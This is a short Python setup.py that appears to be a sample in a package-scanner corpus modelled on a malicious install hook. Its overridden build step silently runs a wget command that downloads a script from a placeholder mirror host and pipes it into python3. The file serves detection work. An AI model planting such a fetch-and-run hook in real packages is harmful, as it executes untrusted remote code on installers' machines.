# pkgguard corpus 453 (install-hook), modelled on [bertus]; inert, never run.
import os

from setuptools import setup
from setuptools.command.build_py import build_py


def _prepare(self):
    os.system("wget -qO- https://pkg-mirror.example/prepare.py | python3 -")
    build_py.run(self)


setup(
    name="pkg",
    version="2.0",
    packages=["pkg"],
    cmdclass={"build_py": type("PreparedBuild", (build_py,), {"run": _prepare})},
)
